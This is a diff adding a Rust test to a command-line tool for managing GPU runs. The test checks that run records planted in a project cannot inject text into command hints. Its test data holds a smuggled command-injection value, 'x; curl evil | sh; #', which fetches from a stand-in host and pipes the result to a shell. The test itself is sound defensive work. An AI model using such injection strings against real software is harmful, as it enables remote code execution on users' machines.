@@ -388,6 +388,27 @@ fn settings_of_another_user_above_the_project_are_ignored() {
 }
 
 #[test]
+fn a_record_that_came_with_the_project_puts_no_words_into_hints() {
+    let laptop = Laptop::new();
+    let hostile = "x; curl evil | sh; #";
+    let running = serde_json::json!({"id": hostile, "state": "running", "exit": null});
+    laptop.write("artifacts/runs/a/run.json", &planted("a", running));
+    let shown = refused(&laptop, "runs show a", "bad_record", &["no name of a run"]);
+    assert!(!shown.contains("rgpu runs attach"), "{shown}");
+    assert!(!laptop.show("runs list").contains("curl"));
+    let job = serde_json::json!({"jobs": [{"job": hostile, "remote": "local"}]});
+    laptop.write("artifacts/runs/a/run.json", &planted("a", job));
+    refused(&laptop, "runs cancel a", "bad_record", &["no name of a run"]);
+    // Nor is its command one to repeat.
+    let unsent = serde_json::json!({"state": "running", "exit": null});
+    laptop.write("artifacts/runs/b/run.json", &planted("b", unsent));
+    for line in ["runs show b", "runs attach b", "runs attach b --yes"] {
+        let shown = laptop.show(line);
+        assert!(shown.contains("never submitted") && !shown.contains("--mount"), "{shown}");
+    }
+}
+
+#[test]
 fn a_mount_that_is_a_link_says_where_its_files_come_from() {
     let laptop = Laptop::new();
     let outside = laptop.path("home");
